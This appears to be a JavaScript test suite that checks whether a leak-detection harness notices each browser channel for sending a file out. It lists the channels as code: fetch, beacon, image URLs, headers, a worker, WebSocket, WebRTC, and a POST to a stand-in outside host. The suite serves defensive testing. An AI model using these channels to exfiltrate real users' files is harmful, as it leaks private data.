/**
 * The leak test's eyes: every way in which a page can send a file is seen, bytes and all. A new way out that this file
 * does not list is a way that the leak test may be blind to.
 */
import assert from "node:assert/strict";
import { once } from "node:events";
import { createServer } from "node:http";
import { after, afterEach, before, beforeEach, test } from "node:test";
import { launchBrowser } from "./harness/browser.js";
import { findInTraffic } from "./harness/needle.js";
import { RecordingProxy } from "./harness/recording-proxy.js";
import { StunSink } from "./harness/stun-sink.js";

const SECRET = "Wilhelmina Thackeray-Oduya";

/** Half a megabyte around the secret, so that no body is small enough to be treated in another way. */
const FILE_TEXT = `${"ordinary words ".repeat(20_000)}${SECRET}${" more of them".repeat(20_000)}`;

/** A server without any policy. */
const server = createServer((request, response) => {
  request.resume();
  request.on("end", () => response.writeHead(200, { "Content-Type": "text/html" }).end('<link rel="icon" href="data:,">'));
});

/** @type {string} */
let origin;
/** @type {RecordingProxy} */
let proxy;
/** @type {StunSink} */
let stun;
/** @type {import("playwright-core").BrowserContext} */
let browser;
/** @type {import("playwright-core").Page} */
let page;

before(async () => {
  server.listen(0, "127.0.0.1");
  await once(server, "listening");
  const address = server.address();
  assert.ok(address !== null && typeof address === "object");
  origin = `http://127.0.0.1:${address.port}`;
  stun = await StunSink.start();
  proxy = await RecordingProxy.start(origin);
  browser = await launchBrowser({ proxyUrl: proxy.url });
});

beforeEach(async () => {
  page = await browser.newPage();
  await page.goto(`${origin}/`);
  proxy.clear();
});

afterEach(() => page.close());

after(async () => {
  await browser.close();
  await proxy.close();
  await stun.close();
  server.close();
  server.closeAllConnections();
});

/** What each way does with the text of the file, in the page. @type {Record<string, (text: string) => unknown>} */
const WAYS = {
  "a string": (text) => fetch("/up", { method: "POST", body: text }),
  "an ArrayBuffer": (text) => fetch("/up", { method: "POST", body: new TextEncoder().encode(text).buffer }),
  "a File": (text) => fetch("/up", { method: "POST", body: new File([text], "a.txt") }),
  "a slice of a File": (text) => fetch("/up", { method: "POST", body: new File([text], "a.txt").slice(1000) }),
  "a form": (text) => {
    const form = new FormData();
    form.set("file", new File([text], "a.txt"));
    return fetch("/up", { method: "POST", body: form });
  },
  "a Blob by XMLHttpRequest": (text) =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest();
      request.onload = resolve;
      request.open("PUT", "/up");
      request.send(new Blob([text]));
    }),
  "a Blob from a worker": (text) =>
    new Promise((resolve) => {
      const source = "onmessage = ({ data }) => fetch(origin + '/up', { method: 'POST', body: data }).then(() => postMessage(0))";
      const worker = new Worker(URL.createObjectURL(new Blob([source])));
      worker.onmessage = resolve;
      worker.postMessage(new Blob([text]));
    }),
  // A beacon may hold 64 KiB.
  "a beacon": (text) => navigator.sendBeacon("/up", new Blob([text.slice(295_000, 305_000)])),
  "a compressed stream": async (text) => {
    const packed = new Blob([text]).stream().pipeThrough(new CompressionStream("deflate-raw"));
    await fetch("/up", { method: "POST", body: await new Response(packed).blob() });
  },
  "an address": (text) => fetch(`/up?q=${encodeURIComponent(text.slice(299_990, 300_030))}`),
  "an image": (text) =>
    new Promise((resolve) => {
      const image = new Image();
      image.onload = image.onerror = resolve;
      image.src = `/pixel/${btoa(text.slice(299_991, 300_031))}`;
    }),
  "a header": (text) => fetch("/up", { headers: { "X-Note": text.slice(299_990, 300_030) } }),
  "another host": (text) => fetch("http://elsewhere.example/up", { method: "POST", mode: "no-cors", body: text }).catch(() => 0),
};

for (const [name, way] of Object.entries(WAYS)) {
  test(`${name} is seen`, { timeout: 30_000 }, async () => {
    await page.evaluate(way, FILE_TEXT);
    // A beacon tells nobody when it has been sent.
    for (let tries = 0; tries < 50 && findInTraffic({ person: SECRET }, proxy.exchanges).length === 0; tries += 1) {
      await page.waitForTimeout(50);
    }
    assert.ok(findInTraffic({ person: SECRET }, proxy.exchanges).length > 0);
    assert.deepEqual(findInTraffic({ other: "Bartholomew Nakamura" }, proxy.exchanges), []);
  });
}

test("a WebSocket is seen and refused", { timeout: 30_000 }, async () => {
  const opened = await page.evaluate(
    (url) =>
      new Promise((resolve) => {
        const socket = new WebSocket(url);
        socket.onopen = () => resolve(true);
        socket.onerror = () => resolve(false);
      }),
    `${origin.replace("http", "ws")}/socket`,
  );
  assert.equal(opened, false);
  assert.deepEqual(proxy.refused.map(({ method, url }) => [method, url]), [["CONNECT", new URL(origin).host]]);
});

test("WebRTC is seen", { timeout: 30_000 }, async () => {
  await page.evaluate(async (url) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: url }] });
    connection.createDataChannel("x");
    await connection.setLocalDescription(await connection.createOffer());
  }, stun.url);
  for (let tries = 0; tries < 100 && stun.packets.length === 0; tries += 1) await page.waitForTimeout(50);
  assert.ok(stun.packets.length > 0);
});
